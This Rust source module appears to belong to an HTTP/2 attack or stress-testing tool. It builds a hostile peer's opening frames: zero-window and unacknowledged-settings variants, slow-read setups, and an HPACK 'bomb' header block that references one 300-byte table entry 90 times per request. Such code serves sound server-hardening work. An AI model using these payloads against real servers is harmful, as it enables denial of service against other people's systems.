//! What an attacking peer sends first: settings, credit, requests.

use super::{Attack, Plan};
use crate::frames::{Block, Frame, PREFACE, flag, setting};

/// Credit of a connection at its begin (RFC 9113 §6.9.2), and the most there is.
const FIRST: u32 = 65_535;
const MOST: u32 = (1 << 31) - 1;
/// References to one field that a header block has, and the field: together as much as a head may be elsewhere.
const REFERENCES: usize = 90;
const FIELD: usize = 300;

/// The stream with this index.
pub(super) fn stream(index: u32) -> u32 {
    2 * index + 1
}

/// Everything that is sent before anything is read.
pub(super) fn bytes(attack: Attack, plan: &Plan) -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    let window = match attack {
        Attack::Zero | Attack::Bomb => 0,
        _ => MOST,
    };
    bytes.extend([Frame::settings(&[
        (setting::HEADER_TABLE_SIZE, 0),
        (setting::ENABLE_PUSH, 0),
        (setting::INITIAL_WINDOW_SIZE, window),
    ])]);
    if attack == Attack::Unread || attack == Attack::SlowHttp2 {
        // Who does not read says it unasked: it is due for settings that are on their way in any case.
        bytes.extend([Frame::settings_ack()]);
    }
    bytes.extend([Frame::window_update(0, MOST - FIRST)]);
    if attack == Attack::Unacknowledged || attack == Attack::Hold {
        return bytes;
    }
    for index in 0..plan.streams {
        let block = match attack {
            Attack::Bomb => bomb(&plan.path, index == 0),
            _ => Block::get(&plan.path).bytes(),
        };
        bytes.extend([Frame::headers(stream(index), flag::END_HEADERS | flag::END_STREAM, block)]);
    }
    bytes
}

/// A head whose fields are one byte each on the wire: the first puts a field into the table, all refer to it.
fn bomb(path: &str, first: bool) -> Vec<u8> {
    let mut block = Block::get(path);
    if first {
        // Literal with incremental indexing (RFC 7541 §6.2.1); the length with a prefix of seven bits.
        let rest = u8::try_from(FIELD - 127).unwrap_or(127);
        block = block.raw(&[0x40, 1, b'x', 127, rest & 127 | 128, rest >> 7]).raw(&[b'y'; FIELD]);
    }
    block.raw(&[0xbe; REFERENCES]).bytes()
}
